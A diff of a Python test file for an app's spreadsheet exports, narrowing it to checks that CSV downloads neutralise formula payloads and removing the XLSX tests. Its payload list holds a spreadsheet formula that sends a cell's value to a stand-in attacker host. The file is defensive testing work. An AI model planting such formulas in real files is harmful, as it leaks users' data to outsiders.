@@ -1,4 +1,7 @@
-"""Formula payloads come out neutralised in CSV and XLSX downloads.
+"""Formula payloads come out neutralised in CSV downloads.
+
+(The one XLSX the app writes, the donor report's, has its own read-back test:
+``tests/test_report.py::test_the_xlsx_never_runs_text_as_a_formula``.)
 
 Files are read back with the standard ``csv`` module and openpyxl (what a
 spreadsheet would see), and each cell is compared with the value written:
@@ -12,12 +15,9 @@ import csv
 import io
 from datetime import UTC, datetime
 
-import openpyxl
 import pandas as pd
-import pytest
 
 from core.csv_safety import safe_csv
-from core.xlsx_safety import safe_xlsx, sheet_name
 
 PAYLOADS = [
     '=HYPERLINK("http://attacker.example/?"&A1,"Verify your account")',
@@ -60,51 +60,3 @@ def test_csv_cells_are_neutralised_and_rows_stay_whole() -> None:
         assert row[1] == expected(original["summary"])
         assert row[2] == expected(original["district"])
         assert row[3] == str(original["=header"])
-
-
-def test_xlsx_cells_are_text_never_formulas() -> None:
-    frame = register()
-    book = openpyxl.load_workbook(io.BytesIO(safe_xlsx({"Overdue items": frame})))
-    sheet = book["Overdue items"]
-    rows = list(sheet.iter_rows())
-    assert len(rows) == len(frame) + 1
-    assert [c.value for c in rows[0]][3] == "'=header"
-    for cells in rows:
-        for cell in cells:
-            assert cell.data_type != "f", cell.coordinate
-            if isinstance(cell.value, str):
-                assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
-    for cells, (_, original) in zip(rows[1:], frame.iterrows(), strict=True):
-        for cell, column in ((cells[1], "summary"), (cells[2], "district")):
-            want = expected(original[column])
-            # XML keeps a CR as a line break: compare with CRs read as LFs.
-            assert (cell.value or "") == want.replace("\r", "\n"), (cell.coordinate, want)
-        assert cells[3].value == original["=header"] and cells[3].data_type == "n"
-        # Shown in Pakistan time, as on the pages (UTC+5).
-        assert cells[4].value == datetime(2026, 3, 1, 9, 30)
-
-
-def test_the_error_looking_text_stays_text() -> None:
-    book = openpyxl.load_workbook(io.BytesIO(safe_xlsx(pd.DataFrame({"a": ["#N/A", "#REF!"]}))))
-    cells = [row[0] for row in book.active.iter_rows(min_row=2)]
-    assert [(c.value, c.data_type) for c in cells] == [("#N/A", "s"), ("#REF!", "s")]
-
-
-def test_control_characters_do_not_break_the_workbook() -> None:
-    data = safe_xlsx(pd.DataFrame({"a": ["bell\x07 and nul\x00 inside"]}))
-    book = openpyxl.load_workbook(io.BytesIO(data))
-    assert book.active["A2"].value == "bell and nul inside"
-
-
-@pytest.mark.parametrize(
-    ("name", "safe"),
-    [("Overdue: items/2026", "Overdue  items 2026"), ("", "Sheet"), ("x" * 40, "x" * 31)],
-)
-def test_sheet_names_excel_accepts(name: str, safe: str) -> None:
-    assert sheet_name(name) == safe
-
-
-def test_several_sheets_with_clashing_names() -> None:
-    frame = pd.DataFrame({"a": [1]})
-    book = openpyxl.load_workbook(io.BytesIO(safe_xlsx({"Items": frame, "items": frame})))
-    assert book.sheetnames == ["Items", "items 2"]
